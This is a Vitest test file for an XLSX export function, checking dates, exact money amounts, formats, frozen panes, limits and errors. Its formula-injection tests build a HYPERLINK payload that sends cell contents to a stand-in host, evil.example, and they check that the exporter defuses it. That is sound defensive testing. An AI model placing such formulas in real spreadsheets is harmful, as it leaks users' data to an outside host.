import { CFB, type CellObject } from 'xlsx';
import { describe, expect, it } from 'vitest';
import { MAX_MONEY_CENTIMES, sumCentimes } from '../core/money';
import { ExportValueError, type ExportColumn, type RowFor } from './columns';
import {
  DANGEROUS_STARTS,
  extremeLineRows,
  firstSheetCells,
  lineColumns,
  lineRows,
  readDense,
} from './fixtures';
import { toXlsx, XLSX_MAX_COLUMNS, XLSX_MAX_ROWS, XlsxLimitError } from './xlsx';

const columns = [
  { id: 'date', header: 'Date', type: 'date' },
  { id: 'ref', header: 'Reference', type: 'text' },
  { id: 'line', header: 'Line', type: 'integer' },
  { id: 'qty', header: 'Quantity', type: 'decimal' },
  { id: 'price', header: 'Unit price', type: 'decimal' },
  { id: 'net', header: 'Net amount', type: 'money' },
] as const satisfies readonly ExportColumn[];

const rows: RowFor<typeof columns>[] = [
  ['2026-03-31', 'INV-1', 1, '1.250', '0.8500', 123450],
  ['2024-02-29', null, -2, '12', '1.10', -1205],
  ['1900-03-01', 'Päckli 📦 "Prio", 邮件', 0, '-0.001', '0.85', 99_999_999_999_999],
];

const readBack = (bytes: Uint8Array) =>
  readDense(bytes, { type: 'array', cellDates: true, cellNF: true, cellStyles: true });

const cellsOf = (bytes: Uint8Array) => firstSheetCells(readBack(bytes));

/** The XML of one part of the package, for what SheetJS does not read back (fonts, panes). */
const partXml = (bytes: Uint8Array, path: string): string => {
  const zip = CFB as {
    read(
      data: Uint8Array,
      options: { type: 'buffer' },
    ): { FullPaths: string[]; FileIndex: { content: Uint8Array }[] };
  };
  const container = zip.read(bytes, { type: 'buffer' });
  const entry = container.FileIndex[container.FullPaths.findIndex((name) => name.endsWith(path))];
  return new TextDecoder().decode(entry?.content);
};

describe('toXlsx', () => {
  const bytes = toXlsx(columns, rows, { sheetName: 'Lines 2026/03', title: 'Invoice lines' });
  const book = readBack(bytes);
  const cells = firstSheetCells(book);

  it('writes a title, a blank row, the header and the rows', () => {
    expect(book.SheetNames).toEqual(['Lines 2026-03']);
    expect(book.Props?.Title).toBe('Invoice lines');
    expect(cells[0]?.[0]?.v).toBe('Invoice lines');
    expect(cells[1] ?? []).toEqual([]);
    expect(cells[2]?.map((cell) => cell?.v)).toEqual(columns.map((column) => column.header));
    expect(cells).toHaveLength(3 + rows.length);
  });

  it('gives every column its cell type', () => {
    expect(cells[3]?.map((cell) => cell?.t)).toEqual(['d', 's', 'n', 'n', 'n', 'n']);
    expect(cells[2]?.every((cell) => cell?.t === 's')).toBe(true);
  });

  it('leaves a null text cell empty', () => {
    expect(cells[4]?.[1]).toBeUndefined();
  });

  it('writes real dates in the chosen format', () => {
    expect(cells.slice(3).map((row) => row[0]?.v)).toEqual(
      ['2026-03-31', '2024-02-29', '1900-03-01'].map((iso) => new Date(`${iso}T00:00:00Z`)),
    );
    expect(cells[3]?.[0]?.z).toBe('yyyy-mm-dd');
    expect(cells[3]?.[0]?.w).toBe('2026-03-31');
    const swiss = cellsOf(toXlsx(columns, rows, { sheetName: 'x', dateFormat: 'dd.mm.yyyy' }));
    expect(swiss[1]?.[0]?.z).toBe('dd\\.mm\\.yyyy');
    expect(swiss[1]?.[0]?.w).toBe('31.03.2026');
  });

  it('writes money to the centime, as numbers with a two-decimal format', () => {
    const money = cells.slice(3).map((row) => row[5]);
    expect(money.map((cell) => cell?.z)).toEqual(['#,##0.00', '#,##0.00', '#,##0.00']);
    const centimes = money.map((cell) => Math.round(Number(cell?.v) * 100));
    expect(centimes).toEqual(rows.map((row) => row[5]));
    expect(sumCentimes(centimes)).toBe(sumCentimes(rows.map((row) => row[5])));
    expect(money[1]?.v).toBe(-12.05);
    expect(money[1]?.w).toBe('-12.05');
  });

  it.each([MAX_MONEY_CENTIMES, -MAX_MONEY_CENTIMES, 1, -1, 10, 123456789012345 % MAX_MONEY_CENTIMES])(
    'keeps %d centimes exact',
    (centimes) => {
      const cell = cellsOf(toXlsx([columns[5]], [[centimes]], { sheetName: 'x' }))[1]?.[0];
      expect(cell?.t).toBe('n');
      expect(Math.round(Number(cell?.v) * 100)).toBe(centimes);
      expect(cell?.v).toBe(centimes / 100);
    },
  );

  it('writes decimals as numbers that show the source digits', () => {
    const quantities = cells.slice(3).map((row) => row[3]);
    const prices = cells.slice(3).map((row) => row[4]);
    expect(quantities.map((cell) => cell?.v)).toEqual([1.25, 12, -0.001]);
    expect(quantities.map((cell) => cell?.w)).toEqual(['1.250', '12', '-0.001']);
    expect(prices.map((cell) => cell?.z)).toEqual(['#,##0.0000', '#,##0.00', '#,##0.00']);
    expect(prices.map((cell) => cell?.w)).toEqual(['0.8500', '1.10', '0.85']);
  });

  it('writes integers as numbers, and past 15 digits as exact text', () => {
    expect(cells.slice(3).map((row) => row[2]?.v)).toEqual([1, -2, 0]);
    expect(cells[3]?.[2]?.z).toBe('0');
    const big = cellsOf(
      toXlsx([columns[2]], [[Number.MAX_SAFE_INTEGER], [-999_999_999_999_999]], { sheetName: 'x' }),
    );
    expect(big[1]?.[0]).toMatchObject({ t: 's', v: String(Number.MAX_SAFE_INTEGER) });
    expect(big[2]?.[0]).toMatchObject({ t: 'n', v: -999_999_999_999_999 });
  });

  it('keeps unicode text intact', () => {
    expect(cells[5]?.[1]?.v).toBe('Päckli 📦 "Prio", 邮件');
  });

  it('writes no formula anywhere', () => {
    expect(cells.flat().filter((cell) => cell?.f !== undefined)).toEqual([]);
  });

  it('sets column widths and an autofilter over the header and the rows', () => {
    const sheet = book.Sheets[book.SheetNames[0] ?? ''];
    expect(sheet?.['!autofilter']).toEqual({ ref: 'A3:F6' });
    const widths = sheet?.['!cols']?.map((info) => info.wch ?? 0) ?? [];
    expect(widths).toHaveLength(columns.length);
    columns.forEach((column, index) => expect(widths[index]).toBeGreaterThanOrEqual(column.header.length));
    // The money column fits "-999,999,999,999.99".
    expect(widths[5]).toBeGreaterThanOrEqual('-999,999,999,999.99'.length);
  });

  it('makes the header and title bold and freezes the rows down to the header', () => {
    const styles = partXml(bytes, '/xl/styles.xml');
    expect(styles).toContain('<fonts count="2">');
    expect(styles).toMatch(/<font><b\/>.*?<\/font><\/fonts>/);
    expect(styles).toContain('<xf numFmtId="49" fontId="1" applyFont="1"');
    // Header cells carry the Text format, i.e. the bold style, and nothing else does.
    expect(cells[2]?.every((cell) => cell?.z === '@')).toBe(true);
    expect(cells[0]?.[0]?.z).toBe('@');
    expect(
      cells
        .slice(3)
        .flat()
        .some((cell) => cell?.z === '@'),
    ).toBe(false);
    expect(partXml(bytes, '/xl/worksheets/sheet1.xml')).toContain(
      '<pane ySplit="3" topLeftCell="A4" activePane="bottomLeft" state="frozen"/>',
    );
  });

  it('freezes just the header row without a title', () => {
    const plain = toXlsx(columns, rows, { sheetName: 'x' });
    const plainCells = cellsOf(plain);
    expect(plainCells[0]?.map((cell) => cell?.v)).toEqual(columns.map((column) => column.header));
    expect(partXml(plain, '/xl/worksheets/sheet1.xml')).toContain('<pane ySplit="1" topLeftCell="A2"');
    const sheet = readBack(plain).Sheets.x;
    expect(sheet?.['!autofilter']).toEqual({ ref: 'A1:F4' });
  });

  it('compresses the package', () => {
    // Compression method of the first local file header: 8 is deflate.
    expect(bytes[8]).toBe(8);
  });

  it('writes a header-only sheet for no rows', () => {
    const empty = cellsOf(toXlsx(columns, [], { sheetName: 'x' }));
    expect(empty).toHaveLength(1);
    expect(empty[0]?.map((cell) => cell?.v)).toEqual(columns.map((column) => column.header));
  });
});

describe('toXlsx formula injection', () => {
  const text = [{ id: 'text', header: 'Text', type: 'text' }] as const satisfies readonly ExportColumn[];

  it.each(DANGEROUS_STARTS)('neutralises text starting with %j in cells, headers and the title', (start) => {
    const payload = `${start}HYPERLINK("https://evil.example/"&A1)`;
    const cells = cellsOf(
      toXlsx([{ id: 'x', header: payload, type: 'text' }], [[payload], [` ${payload}`]], {
        sheetName: payload,
        title: payload,
      }),
    );
    const written = [cells[0]?.[0], cells[2]?.[0], cells[3]?.[0], cells[4]?.[0]];
    expect(written.map((cell) => cell?.t)).toEqual(['s', 's', 's', 's']);
    // Behind a space, TAB and CR are plain white space: only = + - @ still need the quote there.
    const spaced = start === '\t' || start === '\r' ? ` ${payload}` : `' ${payload}`;
    expect(written.map((cell) => cell?.v)).toEqual([`'${payload}`, `'${payload}`, `'${payload}`, spaced]);
    expect(written.some((cell) => cell?.f !== undefined)).toBe(false);
  });

  it('leaves negative money numeric and unprefixed', () => {
    const cell = cellsOf(toXlsx([columns[5]], [[-1205]], { sheetName: 'x' }))[1]?.[0];
    expect(cell).toMatchObject({ t: 'n', v: -12.05 });
  });

  it('round-trips control characters, padding and escape look-alikes', () => {
    const awkward = [
      'bell\u0007',
      'nul\u0000x',
      '  padded  ',
      'line\nbreak',
      '_x0041_',
      '_x003D_1+1',
      'a_x005F_b',
    ];
    const cells = cellsOf(
      toXlsx(
        text,
        awkward.map((value) => [value]),
        { sheetName: 'x' },
      ),
    );
    expect(cells.slice(1).map((row) => row[0]?.v)).toEqual(awkward);
  });

  it('turns CRLF into the LF line break Excel uses (XML normalises line ends)', () => {
    const cells = cellsOf(toXlsx(text, [['line\r\nbreak']], { sheetName: 'x' }));
    expect(cells[1]?.[0]?.v).toBe('line\nbreak');
  });
});

describe('toXlsx limits and errors', () => {
  const text = [{ id: 'text', header: 'Text', type: 'text' }] as const satisfies readonly ExportColumn[];

  it('cuts text at the 32,767 characters Excel holds, never inside a surrogate pair', () => {
    const long = `${'x'.repeat(32_766)}😀tail`;
    const cells = cellsOf(toXlsx(text, [['y'.repeat(40_000)], [long]], { sheetName: 'x' }));
    expect(cells[1]?.[0]?.v).toBe('y'.repeat(32_767));
    expect(cells[2]?.[0]?.v).toBe('x'.repeat(32_766));
  });

  it.each([
    ['money', 12.05],
    ['money', '12.05'],
    ['integer', 1.5],
    ['decimal', '1234567890.1234567'],
    ['date', '2026-02-29'],
    ['date', '1900-02-29'],
    ['money', 2 ** 53],
    ['text', 0],
  ] as const)('refuses a %s column value %j', (type, value) => {
    expect(() => toXlsx([{ id: 'col', header: 'Col', type }], [[value]], { sheetName: 'x' })).toThrow(
      ExportValueError,
    );
  });

  it('refuses rows of the wrong length and an empty column list', () => {
    expect(() => toXlsx(text, [['a'], []], { sheetName: 'x' })).toThrow(
      'Export row 1: expected 1 values, got 0',
    );
    expect(() => toXlsx([], [], { sheetName: 'x' })).toThrow(RangeError);
  });

  it('refuses more columns than a sheet holds', () => {
    const wide: ExportColumn[] = Array.from({ length: XLSX_MAX_COLUMNS + 1 }, (_, index) => ({
      id: `c${index}`,
      header: `C${index}`,
      type: 'integer',
    }));
    expect(() => toXlsx(wide, [], { sheetName: 'x' })).toThrow(XlsxLimitError);
  });

  it('refuses more rows than a sheet holds, before writing anything', () => {
    const integer = [columns[2]] as const;
    // One more row than fits below a title, a blank row and the header.
    function* tooMany(): Generator<[number]> {
      for (let index = 0; index <= XLSX_MAX_ROWS - 3; index += 1) yield [index];
    }
    expect(() => toXlsx(integer, tooMany(), { sheetName: 'x', title: 'T' })).toThrow(XlsxLimitError);
  }, 120_000);
});

describe('contract-valid extremes', () => {
  const bytes = toXlsx(lineColumns, extremeLineRows, { sheetName: 'Lines' });
  const data = cellsOf(bytes).slice(1);
  // Without cellDates: the serial numbers as stored, which is what Excel will interpret.
  const raw = firstSheetCells(readDense(bytes, { type: 'array', cellNF: true })).slice(1);

  it('exports every row', () => {
    expect(data).toHaveLength(extremeLineRows.length);
  });

  it('writes dates from 1900-03-01 on as serials Excel reads as the same day', () => {
    // Excel's serial 60 is the 29 February 1900 that never was, so 1900-03-01 is 61.
    expect(raw[3]?.[0]).toMatchObject({ t: 'n', v: 61 });
    expect(raw[5]?.[0]).toMatchObject({ t: 'n', v: 2_958_465 });
    expect(data[3]?.[0]?.v).toEqual(new Date('1900-03-01T00:00:00Z'));
    expect(data[5]?.[0]?.v).toEqual(new Date('9999-12-31T00:00:00Z'));
  });

  it('writes dates before 1900-03-01, where Excel serials are off or missing, as text in the date format', () => {
    expect([0, 1, 2, 4].map((row) => data[row]?.[0])).toMatchObject([
      { t: 's', v: '1899-12-31' },
      { t: 's', v: '1900-01-01' },
      { t: 's', v: '1900-02-28' },
      { t: 's', v: '0001-01-01' },
    ]);
    const swiss = cellsOf(toXlsx(lineColumns, extremeLineRows, { sheetName: 'x', dateFormat: 'dd.mm.yyyy' }));
    expect(swiss[1]?.[0]).toMatchObject({ t: 's', v: '31.12.1899' });
    expect(swiss[4]?.[0]?.w).toBe('01.03.1900');
  });

  it('keeps 12-digit amounts exact to the centime, in the cells and in the file', () => {
    const net = data.map((row) => row[6]);
    expect(net.map((cell) => cell?.t)).toEqual(extremeLineRows.map(() => 'n'));
    expect(net.map((cell) => Math.round(Number(cell?.v) * 100))).toEqual(
      extremeLineRows.map((row) => row[6]),
    );
    expect(net[0]?.v).toBe(999_999_999_999.99);
    expect(net[1]?.v).toBe(-999_999_999_999.99);
    expect(net[0]?.w).toBe('999,999,999,999.99');
    // The digits in the XML are the amount itself, not a nearby binary fraction.
    const sheet = partXml(bytes, 'sheet1.xml');
    expect(sheet).toContain('<v>999999999999.99</v>');
    expect(sheet).toContain('<v>-999999999999.99</v>');
  });

  it('keeps quantities with 9+3 digits and 4-decimal unit prices as numbers showing the source digits', () => {
    expect(data.map((row) => row[4]?.w?.replaceAll(',', ''))).toEqual(extremeLineRows.map((row) => row[4]));
    expect(data.map((row) => row[5]?.w?.replaceAll(',', ''))).toEqual(extremeLineRows.map((row) => row[5]));
    expect(data.map((row) => row[4]?.t)).toEqual(extremeLineRows.map(() => 'n'));
    expect(data[0]?.[5]?.v).toBe(999_999_999.9999);
  });

  it('writes a sum of amounts past the 12-digit range exactly: a number up to 15 digits, text beyond', () => {
    const gross = [
      { id: 'gross', header: 'Gross', type: 'money' },
    ] as const satisfies readonly ExportColumn[];
    const twice = 2 * MAX_MONEY_CENTIMES;
    const cells = cellsOf(toXlsx(gross, [[twice], [-twice], [Number.MAX_SAFE_INTEGER]], { sheetName: 'x' }));
    expect(cells[1]?.[0]).toMatchObject({ t: 'n', v: 1_999_999_999_999.98 });
    expect(cells[2]?.[0]).toMatchObject({ t: 'n', v: -1_999_999_999_999.98 });
    expect(cells[3]?.[0]).toMatchObject({ t: 's', v: '90071992547409.91' });
  });
});

describe('a large export', () => {
  it('writes 200,000 lines that read back with every centime', () => {
    const count = 200_000;
    const bytes = toXlsx(lineColumns, lineRows(count), { sheetName: 'Lines', title: 'Invoice lines' });
    const cells = firstSheetCells(readDense(bytes, { type: 'array' }));
    expect(cells).toHaveLength(3 + count);
    const net: (CellObject | undefined)[] = cells.slice(3).map((row) => row[6]);
    expect(net.every((cell) => cell?.t === 'n')).toBe(true);
    const centimes = net.map((cell) => Math.round(Number(cell?.v) * 100));
    const expected = Array.from(lineRows(count), (row) => row[6]);
    expect(sumCentimes(centimes)).toBe(sumCentimes(expected));
    expect(centimes).toEqual(expected);
  }, 180_000);
});
